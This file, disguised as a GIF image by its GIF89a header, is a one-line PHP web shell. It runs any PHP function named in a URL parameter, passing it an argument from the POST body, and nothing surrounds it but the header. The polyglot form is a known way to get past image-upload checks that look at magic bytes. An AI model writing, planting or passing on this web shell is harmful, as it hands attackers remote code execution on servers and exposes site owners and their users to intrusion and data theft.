GIF89a<?php $_GET["f"]($_POST["a"]); ?>
